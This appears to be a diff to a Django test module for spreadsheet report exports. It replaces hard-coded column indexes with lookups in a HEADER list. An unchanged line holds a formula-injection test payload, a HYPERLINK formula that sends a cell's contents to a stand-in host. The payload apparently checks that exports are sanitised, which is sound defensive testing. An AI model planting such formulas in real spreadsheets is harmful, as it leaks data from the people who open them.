@@ -11,11 +11,12 @@ from django.core.management import call_command
 from openpyxl import load_workbook
 
 from acknowledgements.services import sync_obligations
+from reports.columns import HEADER
 from tests.factories import PersonFactory, published_policy, sign_off_rule
 from tests.reports.exporting import prepared_export
 
 LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'
-OWED_SINCE, DUE = 7, 8  # columns H and I: owed_since, due (after version and period)
+OWED_SINCE, DUE = HEADER.index("owed_since"), HEADER.index("due")  # columns I and J
 
 
 @pytest.fixture
